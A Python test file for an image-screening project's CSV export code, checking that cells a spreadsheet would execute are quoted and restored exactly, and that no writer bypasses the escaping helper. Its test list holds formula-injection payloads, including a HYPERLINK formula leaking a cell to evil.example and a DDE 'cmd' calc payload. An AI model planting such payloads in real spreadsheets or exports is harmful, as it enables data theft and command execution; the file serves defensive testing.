"""CSV formula injection: every CSV deepscreen writes neutralises cells a spreadsheet would run, the escape
round-trips through the product's own readers, and no writer in the code base bypasses pipeline.csv_cells."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import numpy as np
import pytest

from pipeline.csv_cells import restore_cell, safe_cell

ROOT = Path(__file__).resolve().parent.parent
PRODUCT = ("pipeline", "db", "workers", "review", "bench", "scripts")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "+1+1",
    "-1+1",
    "  =1+1",
    "\uff1d1+1",
    "'=already quoted",
    "''@twice",
]


def _neutral(cell: str) -> bool:
    """What a spreadsheet sees as text: a leading quote, or nothing that starts a formula."""
    return cell.startswith("'") or cell.lstrip(" \t\r\n")[:1] not in set("=+-@\uff1d\uff0b\uff0d\uff20")


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_text_is_quoted_and_restored_exactly(value: str) -> None:
    written = safe_cell(value)
    assert written.startswith("'") and written[1:] == value
    assert restore_cell(written) == value


@pytest.mark.parametrize("value", ["ab12", "fake", "real/x.jpg", "it's fine", "'plain quote", "", "a=b"])
def test_harmless_text_and_numbers_pass_unchanged(value: str) -> None:
    assert safe_cell(value) == value and restore_cell(value) == value
    assert safe_cell(-0.5) == -0.5 and safe_cell(None) is None and safe_cell(-3) == -3


def test_changes_csv_neutralises_tab_cr_and_every_formula_start() -> None:
    from workers.rescan import CHANGE_FIELDS, write_changes_csv

    rows = [
        dict.fromkeys(CHANGE_FIELDS, None)
        | {
            "image_id": i,
            "sha256": "ab",
            "source": value,
            "event_id": value,
            "model_version": value,
            "old_fake_probability": -0.0,
            "new_fake_probability": 0.25,
        }
        for i, value in enumerate(HOSTILE)
    ]
    buffer = io.StringIO()
    write_changes_csv(buffer, rows)
    read = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert len(read) == len(HOSTILE)
    for row, value in zip(read, HOSTILE, strict=True):
        for field in ("source", "event_id", "model_version"):
            assert _neutral(row[field]), (field, row[field])
            assert restore_cell(row[field]) == value
        assert row["sha256"] == "ab" and row["new_fake_probability"] == "0.25"


def test_bank_export_neutralises_hostile_external_ids_and_reimports_them_unchanged(tmp_path: Path) -> None:
    from db.engine import connect
    from db.known_fakes import BankStore, add_entries, ensure_bank
    from db.migrate import upgrade

    url = f"sqlite:///{tmp_path / 'banks.sqlite3'}"
    upgrade(url)
    engine = connect(url)
    try:
        banks = BankStore(engine)
        rng = np.random.default_rng(12)
        hashes = [rng.integers(0, 256, 32, dtype=np.uint8).tobytes().hex() for _ in HOSTILE]
        # an import strips blanks, so the tab/CR cases reach the bank the way a future path might: directly
        with banks.sessions.begin() as session:
            bank_id = ensure_bank(session, "partner", kind="imported")
            add_entries(
                session,
                bank_id,
                [
                    {"pdq": h, "label": "fake", "external_id": value, "created_by": "t"}
                    for h, value in zip(hashes, HOSTILE, strict=True)
                ],
            )
        out = io.StringIO()
        assert banks.export_csv("partner", out) == len(HOSTILE)
        rows = list(csv.DictReader(io.StringIO(out.getvalue())))
        by_hash = {row["hash"]: row["external_id"] for row in rows}
        for pdq in hashes:
            assert _neutral(by_hash[pdq]), by_hash[pdq]
        report = banks.import_csv("copy", io.StringIO(out.getvalue()), None, created_by="t")
        assert report.added == len(HOSTILE) and report.rejected == []
        copied = {e["hash"]: e["external_id"] for e in banks.entries("copy")}
        for pdq, value in zip(hashes, HOSTILE, strict=True):
            assert copied[pdq] == value, "an export read back is exactly what was exported"
    finally:
        engine.dispose()


def test_export_labels_and_facecrops_manifests_read_back_through_restore(tmp_path: Path) -> None:
    from pipeline.csv_cells import SafeDictWriter
    from pipeline.training.data import read_manifest

    with (tmp_path / "manifest.csv").open("w", newline="") as handle:
        writer = SafeDictWriter(handle, fieldnames=["file", "label", "group", "split"])
        writer.writeheader()
        writer.writerow({"file": "-odd name.png", "label": "fake", "group": "=g1", "split": "train"})
    [sample] = read_manifest(tmp_path)
    assert (sample.file, sample.group) == ("-odd name.png", "=g1")
    assert "'-odd name.png" in (tmp_path / "manifest.csv").read_text()


def _csv_writer_calls(path: Path) -> list[str]:
    """`csv.writer(` / `csv.DictWriter(` (or those names imported from csv) used in one file."""
    tree = ast.parse(path.read_text(), filename=str(path))
    imported = {
        alias.asname or alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom) and node.module == "csv"
        for alias in node.names
        if alias.name in ("writer", "DictWriter")
    }
    modules = {
        alias.asname or alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.Import)
        for alias in node.names
        if alias.name == "csv"
    }
    found = []
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id in modules
        ):
            found.append(f"{path.relative_to(ROOT)}:{node.lineno}")
        if isinstance(node, ast.Name) and node.id in imported:
            found.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    return found


def test_no_csv_writer_bypasses_the_escaping_helper() -> None:
    files = [p for folder in PRODUCT if (ROOT / folder).is_dir() for p in (ROOT / folder).rglob("*.py")]
    assert len(files) > 50
    bypasses = [
        hit for path in files if path != ROOT / "pipeline" / "csv_cells.py" for hit in _csv_writer_calls(path)
    ]
    assert bypasses == [], f"CSV written without pipeline.csv_cells: {bypasses}"
